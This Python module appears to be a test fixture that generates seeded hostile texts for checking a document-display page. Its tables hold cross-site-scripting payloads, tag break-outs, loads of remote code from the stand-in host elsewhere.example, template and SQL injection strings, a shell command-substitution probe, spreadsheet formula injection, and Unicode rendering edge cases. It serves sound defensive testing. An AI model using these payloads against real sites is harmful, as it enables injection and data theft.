"""Texts of documents that try to run, to reorder, to break or to flood the page that shows them; seeded, all different.

Whatever would run calls ``hx``: a page of a browser that defines it hears of it, and a parser finds it outside a text.
"""

import random
from collections.abc import Callable, Iterator

Kind = Callable[[random.Random, str], str]

LONGEST_WORD = 50_000  # characters
_WORDS = ("every person", "the right to", "asylum", "detention of", "children", "border", "visa", "work and", "family")
_ARABIC = ["لكل", "شخص", "الحق", "في", "اللجوء", "ولا", "يجوز", "احتجاز", "الأطفال", "عند", "الحدود"]
_RUN = (
    "<script>hx({n})</script>",
    "<ScRiPt/x>hx({n})</sCrIpT >",
    "<script src=//elsewhere.example/{n}.js></script>",
    "<script type=module>import('//elsewhere.example/{n}')</script>",
    "<img src=x onerror=hx({n})>",
    "<img/src/onerror=hx({n})//",
    "<body onload=hx({n})>",
    "<details open ontoggle=hx({n})>{n}",
    "<input autofocus onfocus=hx({n})>",
    "<video><source onerror=hx({n})></video>",
    "<svg onload=hx({n})><animate onbegin=hx({n}) attributeName=x dur=1s></svg>",
    "<svg><script>hx({n})</script></svg>",
    "<svg><a xlink:href='javascript:hx({n})'><text y=20>{n}</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hx({n})</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hx({n})>",
    "<math href='javascript:hx({n})'>{n}</math>",
    "<a href='javascript:hx({n})'>{n}</a>",
    "<a href=' \x01javascript:hx({n})'>{n}</a>",
    "<form action='javascript:hx({n})'><button>{n}</button></form>",
    "<iframe srcdoc='&lt;script&gt;parent.hx({n})&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>hx({n})</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=hx({n})>'>",
    "<base href='//elsewhere.example/{n}/'>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/{n}'>",
    "<link rel=stylesheet href='//elsewhere.example/{n}.css'>",
    "<style>*{{background:url(//elsewhere.example/{n})}}</style>",
    "<p style='position:fixed;inset:0;font-size:900px'>{n}</p>",
    "<template shadowrootmode=open><img src=x onerror=hx({n})></template>",
    "<noscript><p title='</noscript><img src=x onerror=hx({n})>'>",
    "<!--><img src=x onerror=hx({n})>-->",
    "<![CDATA[<img src=x onerror=hx({n})>]]>",
    "<plaintext>{n}",
    "<xmp><img src=x onerror=hx({n})></xmp>",
    "<portal src='//elsewhere.example/{n}'></portal>",
)
_BREAK_OUT = (
    "</script><script>hx({n})</script>",
    "</ScRiPt\n><img src=x onerror=hx({n})>",
    "<!--<script>{n}</script>-->",
    "</title><script>hx({n})</script>",
    "</textarea><img src=x onerror=hx({n})>",
    "</style><img src=x onerror=hx({n})>",
    "</p></article></main></body></html><script>hx({n})</script>",
    "</bdi></td></tr></table><h1>{n}</h1>",
    '"><img src=x onerror=hx({n})>',
    "'><img src=x onerror=hx({n})>",
    '" onmouseover=hx({n}) x="{n}',
    "' autofocus onfocus=hx({n}) x='{n}",
    "` onmouseover=hx({n}) {n}",
    '","x":"{n}"}},hx({n})//',
    '\\";hx({n});//\\',
    "\\u003cscript\\u003ehx({n})\\u003c/script\\u003e",
    "\u2028hx({n})\u2029",
    "*/hx({n})/*",
    "]]><script>hx({n})</script>",
)
_TEMPLATE = (
    "{{{{ 7 * {n} }}}}",
    "{{% include '/etc/passwd' %}}{n}",
    "{{# {n} #}}",
    "{{{{ self.__init__.__globals__ }}}} {n}",
    "${{{{{n}}}}} #{{{n}}} <%= {n} %>",
    "{{0.__class__.__mro__[{n}]}}",
    "{{name}} {{n}} {{}} {{ {n}",
    "%s%s%n%(name)s %{n}d",
    "$(touch /tmp/{n}) `id` ; drop table passages; -- {n}",
    "' OR {n}={n} --",
    'NEAR("{n}" *) AND OR NOT ( -{n}',
    "(a+)+$ [{n} (?P<{n} \\",
)
_ENTITIES = (
    "&lt;script&gt;hx({n})&lt;/script&gt;",
    "&#60;img src=x onerror=hx({n})&#62;",
    "&#x3c;script&#x3e;hx({n})",
    "&amp;lt;b&amp;gt; {n} &nbsp &copy &notit; &#0; &#x110000; &#xD800;",
    "＜script＞hx({n})＜/script＞",
    "‹script›hx({n})",
    "\u02bcimg src=x onerror=hx({n})\u02bc",
)
_CSV = (
    "=cmd|' /C calc'!A{n}",
    "+{n}+cmd|'x'!A0",
    "-{n}+2",
    "@SUM(A1:A{n})",
    "\t={n}",
    "\r=1+{n}",
    '=HYPERLINK("//x/{n}")',
)
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_ZERO = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2061\u2062\u115f\u3164"
_BREAKS = ("\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\t")
_EMOJI = ("👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇺🇳", "👍🏿", "🫱🏻‍🫲🏿", "❤️‍🔥", "☠︎", "#️⃣")


def _prose(rng: random.Random, words: int = 6) -> str:
    return " ".join(rng.choice(_WORDS) for _ in range(words))


def _from(templates: tuple[str, ...]) -> Kind:
    def make(rng: random.Random, n: str) -> str:
        return f"{_prose(rng, 3)} {rng.choice(templates).format(n=n)} {_prose(rng, 3)}"

    return make


def _bidi(rng: random.Random, n: str) -> str:
    """Embeddings, overrides and isolates that are opened and never closed, or closed and never opened."""
    signs = "".join(rng.choice(_BIDI) + rng.choice((_prose(rng, 1), rng.choice(_ARABIC), n)) for _ in range(9))
    return rng.choice(("{0}{1}", "{1} {0}", "\u2069\u2069\u202c{1}{0}")).format(signs, _prose(rng, 2))


def _right_to_left(rng: random.Random, n: str) -> str:
    return " ".join(rng.choice((*_ARABIC, f"\u202e{n}", "(12-5)", "<b>", "art. 3", "שלום")) for _ in range(8)) + n


def _zero_width(rng: random.Random, n: str) -> str:
    word = "".join(letter + rng.choice(_ZERO) for letter in _prose(rng, 4))
    return f"{word}{rng.choice(_ZERO) * rng.randrange(1, 40)}{n}"


def _combining(rng: random.Random, n: str) -> str:
    """Letters under towers of marks, which must not cover their neighbours' page."""
    towers = "".join(f"{letter}{''.join(chr(rng.randrange(0x300, 0x36F)) for _ in range(40))}" for letter in "asylum")
    return f"{towers} {n} {_prose(rng, 3)}"


def _huge_word(rng: random.Random, n: str) -> str:
    letter = rng.choice(("a", "W", "ل", "字", "/", "_", "-", "\u00a0", "{", "ﷺ", "𒐫"))
    return f"{_prose(rng, 2)} {n}{letter * (LONGEST_WORD if int(n) % 400 == 0 else rng.randrange(300, 1_500))}"


def _controls(rng: random.Random, n: str) -> str:
    return f"{_prose(rng, 2)}\x00{n}" + "".join(chr(rng.randrange(0x20)) + "x" for _ in range(8)) + "\x7f\x9b\x1b[2J"


def _not_characters(rng: random.Random, n: str) -> str:
    odd = "".join(
        rng.choice("\ufffe\uffff\ufdd0\U0001fffe\U0010ffff\ue000\U000f0000\U000e0041\ufe0f\ufff9\ufffb")
        for _ in "12345"
    )
    return f"{odd}{n} {_prose(rng, 3)}{odd}"


def _surrogates(rng: random.Random, n: str) -> str:
    return f"{_prose(rng, 2)} {chr(rng.randrange(0xD800, 0xE000))}{n} \udc00\ud800{_prose(rng, 2)}"


def _emoji(rng: random.Random, n: str) -> str:
    return "".join(rng.choice(_EMOJI) + rng.choice(("", "\u200d", "\ufe0f")) for _ in range(20)) + n


def _newlines(rng: random.Random, n: str) -> str:
    return _prose(rng, 2) + "".join(rng.choice(_BREAKS) for _ in range(rng.randrange(20, 120))) + n + "\n" * 40


KINDS: dict[str, Kind] = {
    "run": _from(_RUN),
    "break out": _from(_BREAK_OUT),
    "template": _from(_TEMPLATE),
    "entities": _from(_ENTITIES),
    "table": lambda rng, n: rng.choice(_CSV).format(n=n),
    "bidi": _bidi,
    "right to left": _right_to_left,
    "zero width": _zero_width,
    "combining": _combining,
    "huge word": _huge_word,
    "controls": _controls,
    "no characters": _not_characters,
    "surrogates": _surrogates,
    "emoji": _emoji,
    "newlines": _newlines,
}


def hostile_texts(count: int, seed: int = 5) -> list[str]:
    """So many texts, all different, of each kind in turn; markup comes twice as often as anything else."""
    return [text for _, text in zip(range(count), _stream(random.Random(seed)), strict=False)]  # noqa: S311 - no secret


def _stream(rng: random.Random) -> Iterator[str]:
    kinds = [*KINDS.values(), *([KINDS["run"], KINDS["break out"]])]
    seen: set[str] = set()
    number = 0
    while True:
        for kind in kinds:
            number += 1
            text = kind(rng, str(number))
            if text not in seen:
                seen.add(text)
                yield text


def short(text: str, most: int = 80) -> str:
    """The beginning, for where a title, a citation or a heading stands."""
    return text[:most]
